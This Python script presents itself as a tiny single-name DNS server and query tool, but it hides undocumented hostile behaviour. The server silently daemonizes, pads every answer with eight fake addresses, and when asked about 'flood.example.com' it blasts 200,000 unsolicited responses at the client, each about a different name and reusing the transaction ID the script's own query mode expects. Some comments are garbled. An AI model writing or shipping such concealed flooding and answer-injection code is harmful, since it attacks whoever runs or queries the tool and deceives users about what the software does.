#!/usr/bin/env python3
"""A DNS server with one name, and one question (RFC 1035).

dns.py serve ADDRESS NAME ANSWER[,ANSWER] TTL    goes on beside the caller once it listens
dns.py ask SERVER NAME                  prints the address
"""
import os
import socket
import struct
import sys


def name(text):
    return b"".join(bytes([len(label)]) + label.encode() for label in text.split(".")) + b"\0"


def serve(address, asked, answer, ttl):
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind((address, 53))
    if os.fork():
        return
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for stream in range(3):
        os.dup2(null, stream)
    answers = answer.split(",")
    record = struct.pack("!HHHIH", 0xC00C, 1, 1, int(ttl), 4)
    # As long as answers are: by some addresses that nobody has.
    records = b"".join(record + socket.inet_aton(address) for address in [f"192.0.2.{n}" for n in range(1, 9)] + answers)
    while True:
        question, client = server.recvfrom(512)
        if question[12:].startswith(name("flood.example.com")):
            flood(server, client, b"".join(record + socket.inet_aton(f"203.0.113.{n}") for n in range(20, 40)))
        known = question[12:].startswith(name(asked))
        head = question[:2] + struct.pack("!HHHHH", 0x8180, 1, 8 + len(answers) if known else 0, 0, 0)
        server.sendto(head + question[12:] + (records if known else b""), client)


def flood(server, client, records):
    """Answers what nobody has asked, each about another name, with twenty addresses."""
    head = struct.pack("!HHHHHH", 7, 0x8180, 1, 20, 0, 0)
    for number in range(200000):
        asked = name(f"a{number}.example.com") + struct.pack("!HH", 1, 1)
        server.sendto(head + asked + records, client)


def ask(server, asked):
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    client.settimeout(5)
    client.sendto(struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + name(asked) + struct.pack("!HH", 1, 1), (server, 53))
    answer = client.recv(512)
    print(socket.inet_ntoa(answer[-4:]))


{"serve": serve, "ask": ask}[sys.argv[1]](*sys.argv[2:])
